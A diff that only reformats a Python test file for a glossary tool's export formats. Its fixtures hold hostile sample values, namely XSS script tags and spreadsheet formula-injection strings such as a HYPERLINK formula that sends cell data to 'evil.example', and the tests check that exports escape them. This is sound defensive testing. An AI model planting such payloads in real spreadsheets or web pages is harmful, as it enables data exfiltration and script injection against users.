@@ -28,11 +28,23 @@ from tests.conftest import REPO
 runner = CliRunner()
 
 HOSTILE = [
-    Concept(id="pipe-term", category="meme", en="a|b <b>bold</b> *star* `tick` [x](y)", zh="管道",
-            note="Note with | pipes, <script>alert(1)</script> & an entity &amp; and a trailing :: colon",
-            aliases=[Alias("#Hash|tag", "hashtag"), Alias("1. not a list", "variant")], status="reviewed"),
-    Concept(id="script-term", category="meme", en="<script>window.__pwned=1</script>", zh="脚本",
-            note="</script><!-- comment -->", sources=[Source("corpus/x.md", 2, "We saw <script>window.__pwned=1</script> here.")]),
+    Concept(
+        id="pipe-term",
+        category="meme",
+        en="a|b <b>bold</b> *star* `tick` [x](y)",
+        zh="管道",
+        note="Note with | pipes, <script>alert(1)</script> & an entity &amp; and a trailing :: colon",
+        aliases=[Alias("#Hash|tag", "hashtag"), Alias("1. not a list", "variant")],
+        status="reviewed",
+    ),
+    Concept(
+        id="script-term",
+        category="meme",
+        en="<script>window.__pwned=1</script>",
+        zh="脚本",
+        note="</script><!-- comment -->",
+        sources=[Source("corpus/x.md", 2, "We saw <script>window.__pwned=1</script> here.")],
+    ),
 ]
 
 
@@ -53,8 +65,20 @@ def data(path: Path, **filters) -> ex.ExportData:
 
 
 def test_builtin_formats_are_registered() -> None:
-    assert {"anki", "csv", "tsv", "json", "markdown", "markdown-dl", "rst", "mkdocs",
-            "omegat", "omegat-zh-en", "tbx", "html"} <= set(ex.names())
+    assert {
+        "anki",
+        "csv",
+        "tsv",
+        "json",
+        "markdown",
+        "markdown-dl",
+        "rst",
+        "mkdocs",
+        "omegat",
+        "omegat-zh-en",
+        "tbx",
+        "html",
+    } <= set(ex.names())
     assert ex.get("anki").binary and ex.get("anki").suffix == ".apkg"
     assert not ex.get("html").binary
 
@@ -84,17 +108,25 @@ def _fake_distribution(root: Path, name: str, entry_points: str) -> None:
     (info / "entry_points.txt").write_text(entry_points, encoding="utf-8")
 
 
-def test_plugins_are_found_by_entry_point_and_loaded_lazily(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, terms_file: Path) -> None:
+def test_plugins_are_found_by_entry_point_and_loaded_lazily(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, terms_file: Path
+) -> None:
     """A package installed with an entry point in 'glossary.exporters' becomes a format; it is imported only when used."""
-    (tmp_path / "glossary_plugin_demo.py").write_text(textwrap.dedent("""
+    (tmp_path / "glossary_plugin_demo.py").write_text(
+        textwrap.dedent("""
         import sys
         from glossary.export import Exporter
         LOADED = True
         exporter = Exporter(lambda d: "".join(c.id + "\\n" for c in d.concepts), suffix=".ids", description="one id per line")
-    """), encoding="utf-8")
+    """),
+        encoding="utf-8",
+    )
     (tmp_path / "glossary_plugin_broken.py").write_text("raise RuntimeError('boom')\n", encoding="utf-8")
-    _fake_distribution(tmp_path, "glossary_plugin_demo", "[glossary.exporters]\nids = glossary_plugin_demo:exporter\n"
-                                                          "broken = glossary_plugin_broken:exporter\n")
+    _fake_distribution(
+        tmp_path,
+        "glossary_plugin_demo",
+        "[glossary.exporters]\nids = glossary_plugin_demo:exporter\nbroken = glossary_plugin_broken:exporter\n",
+    )
     monkeypatch.syspath_prepend(str(tmp_path))
     try:
         assert {"ids", "broken"} <= set(ex.names())
@@ -126,8 +158,28 @@ def test_list_shows_every_format() -> None:
     assert {r["name"] for r in rows} == set(ex.names())
 
 
-@pytest.mark.parametrize("fmt", sorted(n for n in ex.names() if n in {
-    "anki", "csv", "tsv", "json", "markdown", "markdown-dl", "rst", "mkdocs", "omegat", "omegat-zh-en", "tbx", "html"}))
+@pytest.mark.parametrize(
+    "fmt",
+    sorted(
+        n
+        for n in ex.names()
+        if n
+        in {
+            "anki",
+            "csv",
+            "tsv",
+            "json",
+            "markdown",
+            "markdown-dl",
+            "rst",
+            "mkdocs",
+            "omegat",
+            "omegat-zh-en",
+            "tbx",
+            "html",
+        }
+    ),
+)
 def test_every_format_is_reproducible(fmt: str, tmp_path: Path, hostile_file: Path) -> None:
     """Two exports of the same file give the same bytes; the -o file holds exactly them."""
     a, b = tmp_path / f"a{ex.get(fmt).suffix}", tmp_path / f"b{ex.get(fmt).suffix}"
@@ -142,10 +194,18 @@ def test_every_format_is_reproducible(fmt: str, tmp_path: Path, hostile_file: Pa
 def test_export_to_stdout_and_to_a_directory(tmp_path: Path, terms_file: Path) -> None:
     result = runner.invoke(app, ["export", "-f", "json", "--glossary", str(terms_file)])
     assert result.exit_code == 0
-    assert [c["id"] for c in json.loads(result.stdout)["concepts"]] == ["bytedance", "cat-tax", "xiaohongshu", "tiktok-refugee"]
+    assert [c["id"] for c in json.loads(result.stdout)["concepts"]] == [
+        "bytedance",
+        "cat-tax",
+        "xiaohongshu",
+        "tiktok-refugee",
+    ]
     result = runner.invoke(app, ["export", "-f", "markdown", "-o", str(tmp_path), "--glossary", str(terms_file)])
     assert result.exit_code == 0
-    assert result.stderr == f"wrote 4 concepts as markdown to {tmp_path / 'glossary.md'} ({(tmp_path / 'glossary.md').stat().st_size:,} bytes)\n"
+    assert (
+        result.stderr
+        == f"wrote 4 concepts as markdown to {tmp_path / 'glossary.md'} ({(tmp_path / 'glossary.md').stat().st_size:,} bytes)\n"
+    )
     assert (tmp_path / "glossary.md").read_text(encoding="utf-8").startswith("# Test glossary\n")
 
 
@@ -162,15 +222,37 @@ def test_filters_by_category_and_status(terms_file: Path) -> None:
 
 def test_bad_arguments_are_clear_errors(terms_file: Path, tmp_path: Path) -> None:
     cases = [
-        (["export", "--glossary", str(terms_file)], 2, "error: give --format FORMAT (glossary export --list shows the formats)\n"),
+        (
+            ["export", "--glossary", str(terms_file)],
+            2,
+            "error: give --format FORMAT (glossary export --list shows the formats)\n",
+        ),
         (["export", "-f", "pdf", "--glossary", str(terms_file)], 2, "error: unknown export format 'pdf' (known: "),
-        (["export", "-f", "csv", "-c", "planet", "--glossary", str(terms_file)], 2, "error: unknown category 'planet' (expected one of: platform,"),
-        (["export", "-f", "csv", "-s", "done", "--glossary", str(terms_file)], 2, "error: unknown status 'done' (expected one of: candidate, reviewed)\n"),
-        (["export", "-f", "csv", "-c", "custom", "-s", "reviewed", "--glossary", str(terms_file)], 1,
-         "error: no concept matches category custom and status reviewed\n"),
-        (["export", "-f", "csv", "-o", str(tmp_path / "missing" / "x.csv"), "--glossary", str(terms_file)], 1,
-         f"error: {tmp_path / 'missing'}: no such directory\n"),
-        (["export", "-f", "csv", "--glossary", str(tmp_path / "nope.yaml")], 1, f"error: {tmp_path / 'nope.yaml'}: no such glossary file\n"),
+        (
+            ["export", "-f", "csv", "-c", "planet", "--glossary", str(terms_file)],
+            2,
+            "error: unknown category 'planet' (expected one of: platform,",
+        ),
+        (
+            ["export", "-f", "csv", "-s", "done", "--glossary", str(terms_file)],
+            2,
+            "error: unknown status 'done' (expected one of: candidate, reviewed)\n",
+        ),
+        (
+            ["export", "-f", "csv", "-c", "custom", "-s", "reviewed", "--glossary", str(terms_file)],
+            1,
+            "error: no concept matches category custom and status reviewed\n",
+        ),
+        (
+            ["export", "-f", "csv", "-o", str(tmp_path / "missing" / "x.csv"), "--glossary", str(terms_file)],
+            1,
+            f"error: {tmp_path / 'missing'}: no such directory\n",
+        ),
+        (
+            ["export", "-f", "csv", "--glossary", str(tmp_path / "nope.yaml")],
+            1,
+            f"error: {tmp_path / 'nope.yaml'}: no such glossary file\n",
+        ),
     ]
     for args, code, message in cases:
         result = runner.invoke(app, args)
@@ -232,7 +314,9 @@ def test_json_round_trips_every_concept(hostile_file: Path) -> None:
     g = load(hostile_file)
     doc = json.loads(ex.export(g, "json"))
     assert doc["name"] == g.name and doc["description"] == g.description
-    assert sorted((Concept.from_dict(d) for d in doc["concepts"]), key=lambda c: c.id) == sorted(g.concepts, key=lambda c: c.id)
+    assert sorted((Concept.from_dict(d) for d in doc["concepts"]), key=lambda c: c.id) == sorted(
+        g.concepts, key=lambda c: c.id
+    )
 
 
 def test_omegat_has_three_tab_columns_and_no_comment_lines(hostile_file: Path) -> None:
@@ -254,7 +338,9 @@ def test_tbx_structure(hostile_file: Path) -> None:
     t = lambda name: f"{{{NS}}}{name}"  # noqa: E731
     lang = "{http://www.w3.org/XML/1998/namespace}lang"
     assert root.tag == t("tbx") and root.get("type") == "TBX-Basic" and root.get("style") == "dca"
-    assert root.find(f"{t('tbxHeader')}/{t('fileDesc')}/{t('titleStmt')}/{t('title')}").text == "Hostile <glossary> | test"
+    assert (
+        root.find(f"{t('tbxHeader')}/{t('fileDesc')}/{t('titleStmt')}/{t('title')}").text == "Hostile <glossary> | test"
+    )
     entries = root.findall(f"{t('text')}/{t('body')}/{t('conceptEntry')}")
     assert len(entries) == 6
     xhs = next(e for e in entries if e.get("id") == "xiaohongshu")
@@ -274,8 +360,14 @@ def test_tbx_structure(hostile_file: Path) -> None:
     en = terms(secs["en"])
     assert list(en) == ["RedNote", "Xiaohongshu", "Little Red Book", "Red Note"]
     assert en["RedNote"] == {"partOfSpeech": "noun", "administrativeStatus": "preferredTerm-admn-sts"}
-    assert en["Red Note"] == {"partOfSpeech": "noun", "administrativeStatus": "admittedTerm-admn-sts", "termType": "variant"}
-    assert terms(secs["zh-Hant"]) == {"小紅書": {"partOfSpeech": "noun", "administrativeStatus": "preferredTerm-admn-sts"}}
+    assert en["Red Note"] == {
+        "partOfSpeech": "noun",
+        "administrativeStatus": "admittedTerm-admn-sts",
+        "termType": "variant",
+    }
+    assert terms(secs["zh-Hant"]) == {
+        "小紅書": {"partOfSpeech": "noun", "administrativeStatus": "preferredTerm-admn-sts"}
+    }
     notes = [n.text for n in secs["zh-Hans"].iter(t("note"))]
     assert notes == ["pinyin: Xiǎohóngshū", "literally: little red book"]
 
@@ -283,7 +375,9 @@ def test_tbx_structure(hostile_file: Path) -> None:
     refugee = next(e for e in entries if e.get("id") == "tiktok-refugee")
     grp = next(refugee.iter(t("descripGrp")))
     assert [(d.tag, d.get("type"), d.text) for d in grp] == [
-        (t("descrip"), "context", "Millions of TikTok refugees joined RedNote."), (t("admin"), "source", "corpus/news.txt:3")]
+        (t("descrip"), "context", "Millions of TikTok refugees joined RedNote."),
+        (t("admin"), "source", "corpus/news.txt:3"),
+    ]
     # hostile text is escaped, not markup
     script = next(e for e in entries if e.get("id") == "script-term")
     assert "<script>window.__pwned=1</script>" in [x.text for x in script.iter(t("term"))]
@@ -291,12 +385,20 @@ def test_tbx_structure(hostile_file: Path) -> None:
 
 
 def test_tbx_deprecated_aliases_and_ids() -> None:
-    c = Concept(id="996", category="slang", zh="996", en="996 schedule",
-                aliases=[Alias("nine nine six", "misspelling"), Alias("9-9-6", "abbreviation")])
+    c = Concept(
+        id="996",
+        category="slang",
+        zh="996",
+        en="996 schedule",
+        aliases=[Alias("nine nine six", "misspelling"), Alias("9-9-6", "abbreviation")],
+    )
     root = ET.fromstring(ex.get("tbx")(ex.ExportData((c,))))
     entry = root.find(f".//{{{NS}}}conceptEntry")
     assert entry.get("id") == "c-996"  # an XML ID cannot start with a digit
-    status = {s.find(f"{{{NS}}}term").text: [n.text for n in s.findall(f"{{{NS}}}termNote")] for s in entry.iter(f"{{{NS}}}termSec")}
+    status = {
+        s.find(f"{{{NS}}}term").text: [n.text for n in s.findall(f"{{{NS}}}termNote")]
+        for s in entry.iter(f"{{{NS}}}termSec")
+    }
     assert status["nine nine six"] == ["other", "deprecatedTerm-admn-sts", "variant"]
     assert status["9-9-6"] == ["other", "admittedTerm-admn-sts", "abbreviation"]
 
@@ -317,7 +419,7 @@ def test_markdown_table_renders_one_row_per_concept_with_text_intact(hostile_fil
             import markdown
 
             page = markdown.markdown(text, extensions=["tables"])
-        table = ET.fromstring(page[page.index("<table>"):page.index("</table>") + 8])
+        table = ET.fromstring(page[page.index("<table>") : page.index("</table>") + 8])
         rows = table.findall("./tbody/tr")
         assert len(rows) == len(g.concepts), renderer
         assert all(len(r.findall("td")) == 6 for r in rows), renderer
@@ -333,7 +435,7 @@ def test_markdown_definition_list_with_python_markdown(hostile_file: Path) -> No
 
     g = load(hostile_file)
     page = markdown.markdown(ex.export(g, "markdown-dl").decode(), extensions=["def_list"])
-    dl = ET.fromstring(page[page.index("<dl>"):page.index("</dl>") + 5])
+    dl = ET.fromstring(page[page.index("<dl>") : page.index("</dl>") + 5])
     terms = ["".join(dt.itertext()) for dt in dl.findall("dt")]
     assert len(terms) == len(g.concepts)
     assert "RedNote · 小红书 (小紅書) · Xiǎohóngshū" in terms
@@ -346,7 +448,9 @@ def test_mkdocs_abbreviations_with_python_markdown(hostile_file: Path) -> None:
 
     abbr = ex.export(load(hostile_file), "mkdocs").decode()
     page = markdown.markdown("RedNote and Little Red Book, but not rednote.\n\n" + abbr, extensions=["abbr"])
-    titles = dict((m.group(2), m.group(1)) for m in __import__("re").finditer(r'<abbr title="([^"]*)">([^<]*)</abbr>', page))
+    titles = dict(
+        (m.group(2), m.group(1)) for m in __import__("re").finditer(r'<abbr title="([^"]*)">([^<]*)</abbr>', page)
+    )
     assert set(titles) == {"RedNote", "Little Red Book"}
     assert titles["RedNote"].startswith("小红书 (小紅書) · Xiǎohóngshū · RedNote — Chinese lifestyle app")
     page = markdown.markdown("脚本 here\n\n" + abbr, extensions=["abbr"])
@@ -362,14 +466,22 @@ def test_rst_glossary_builds_with_sphinx_without_warnings(tmp_path: Path, hostil
     (src / "glossary.rst").write_bytes(ex.export(load(hostile_file), "rst"))
     (src / "index.rst").write_text(
         "Index\n=====\n\n:term:`RedNote`, :term:`小紅書`, :term:`Little Red Book` and :term:`#TikTokRefugee`.\n\n"
-        ".. toctree::\n\n   glossary\n", encoding="utf-8")
-    build = subprocess.run([sys.executable, "-m", "sphinx", "-b", "xml", "-W", "-q", "-E", str(src), str(tmp_path / "out")],
-                           capture_output=True, text=True)
+        ".. toctree::\n\n   glossary\n",
+        encoding="utf-8",
+    )
+    build = subprocess.run(
+        [sys.executable, "-m", "sphinx", "-b", "xml", "-W", "-q", "-E", str(src), str(tmp_path / "out")],
+        capture_output=True,
+        text=True,
+    )
     assert build.returncode == 0, build.stderr
     doc = ET.parse(tmp_path / "out" / "glossary.xml").getroot()
     items = doc.findall(".//glossary//definition_list_item")
     assert len(items) == 6
-    terms = {tuple("".join(t.itertext()) for t in item.findall("term")): "".join(item.find("definition").itertext()) for item in items}
+    terms = {
+        tuple("".join(t.itertext()) for t in item.findall("term")): "".join(item.find("definition").itertext())
+        for item in items
+    }
     assert ("RedNote", "小红书", "小紅書", "Xiaohongshu", "Little Red Book", "Red Note") in terms
     assert ("a|b <b>bold</b> *star* `tick` [x](y)", "管道", "#Hash|tag", "1. not a list") in terms
     pipe = terms[("a|b <b>bold</b> *star* `tick` [x](y)", "管道", "#Hash|tag", "1. not a list")]
@@ -380,7 +492,7 @@ def test_rst_glossary_builds_with_sphinx_without_warnings(tmp_path: Path, hostil
 
 # --- spreadsheet-safe cells and inert text ---------------------------------------------------
 
-FORMULAS_YAML = r'''name: formulas
+FORMULAS_YAML = r"""name: formulas
 concepts:
   - id: formula
     category: meme
@@ -401,7 +513,7 @@ concepts:
     pinyin: Dì-yī
     en: First - and @second + third
     note: "Ends with = + - @"
-'''
+"""
 
 
 @pytest.fixture
@@ -422,14 +534,26 @@ def test_csv_and_tsv_cells_never_start_a_formula(formulas_file: Path) -> None:
             for cell in r.values():
                 assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (fmt, cell)
         formula, ordinary = rows[1], rows[0]
-        assert formula["en"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
-        assert formula["pinyin"] == "'-1" and formula["literal"].startswith("'+cmd") and formula["gloss"] == "'@SUM(A1:A9)"
-        assert formula["example"] == "'=HYPERLINK(\"http://evil.example\")"
+        assert formula["en"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        assert (
+            formula["pinyin"] == "'-1" and formula["literal"].startswith("'+cmd") and formula["gloss"] == "'@SUM(A1:A9)"
+        )
+        assert formula["example"] == '\'=HYPERLINK("http://evil.example")'
         # values that merely hold these characters later on are left as they are
-        assert (ordinary["pinyin"], ordinary["en"], ordinary["note"]) == ("Dì-yī", "First - and @second + third", "Ends with = + - @")
+        assert (ordinary["pinyin"], ordinary["en"], ordinary["note"]) == (
+            "Dì-yī",
+            "First - and @second + third",
+            "Ends with = + - @",
+        )
         unescape = plain if fmt == "csv" else (lambda cell: plain(unescape_tsv(cell)))
-        assert parse_aliases(unescape(formula["aliases"])) == [Alias("Xiǎohóngshū - RedNote", "variant"), Alias("'=already quoted", "variant")]
-        assert unescape(formula["note"]) == "\tTab first, then NUL  here,\n a bare CR\nand a CRLF, a backslash \\n and a tab\there"
+        assert parse_aliases(unescape(formula["aliases"])) == [
+            Alias("Xiǎohóngshū - RedNote", "variant"),
+            Alias("'=already quoted", "variant"),
+        ]
+        assert (
+            unescape(formula["note"])
+            == "\tTab first, then NUL  here,\n a bare CR\nand a CRLF, a backslash \\n and a tab\there"
+        )
 
 
 def test_tsv_has_one_record_per_line(formulas_file: Path, hostile_file: Path) -> None:
@@ -439,7 +563,9 @@ def test_tsv_has_one_record_per_line(formulas_file: Path, hostile_file: Path) ->
         assert {len(line.split("\t")) for line in lines[:-1]} == {len(COLUMNS)}
 
 
-@pytest.mark.parametrize("fmt", ["csv", "tsv", "markdown", "markdown-dl", "rst", "mkdocs", "omegat", "omegat-zh-en", "anki"])
+@pytest.mark.parametrize(
+    "fmt", ["csv", "tsv", "markdown", "markdown-dl", "rst", "mkdocs", "omegat", "omegat-zh-en", "anki"]
+)
 def test_nul_and_bare_cr_never_reach_an_export(fmt: str, formulas_file: Path, tmp_path: Path) -> None:
     content = ex.export(load(formulas_file), fmt)
     if fmt == "anki":
@@ -513,12 +639,30 @@ def test_output_to_a_folder_uses_the_default_file_name(tmp_path: Path, terms_fil
 
 def test_progress_shows_on_a_terminal_only(tmp_path: Path) -> None:
     big = tmp_path / "big.yaml"
-    big.write_text("name: big\nconcepts:\n" + "".join(
-        f"  - {{id: term-{i}, category: meme, en: Term {i}}}\n" for i in range(2000)), encoding="utf-8")
+    big.write_text(
+        "name: big\nconcepts:\n"
+        + "".join(f"  - {{id: term-{i}, category: meme, en: Term {i}}}\n" for i in range(2000)),
+        encoding="utf-8",
+    )
     env = {**os.environ, "PYTHONPATH": str(REPO)}
-    cmd = [sys.executable, "-m", "glossary", "export", "-f", "csv", "-o", str(tmp_path / "big.csv"), "--glossary", str(big)]
+    cmd = [
+        sys.executable,
+        "-m",
+        "glossary",
+        "export",
+        "-f",
+        "csv",
+        "-o",
+        str(tmp_path / "big.csv"),
+        "--glossary",
+        str(big),
+    ]
     piped = subprocess.run(cmd, capture_output=True, env=env, cwd=tmp_path)
-    assert piped.returncode == 0 and piped.stderr.decode() == f"wrote 2000 concepts as csv to {tmp_path / 'big.csv'} ({(tmp_path / 'big.csv').stat().st_size:,} bytes)\n"
+    assert (
+        piped.returncode == 0
+        and piped.stderr.decode()
+        == f"wrote 2000 concepts as csv to {tmp_path / 'big.csv'} ({(tmp_path / 'big.csv').stat().st_size:,} bytes)\n"
+    )
     import pty
 
     leader, follower = pty.openpty()
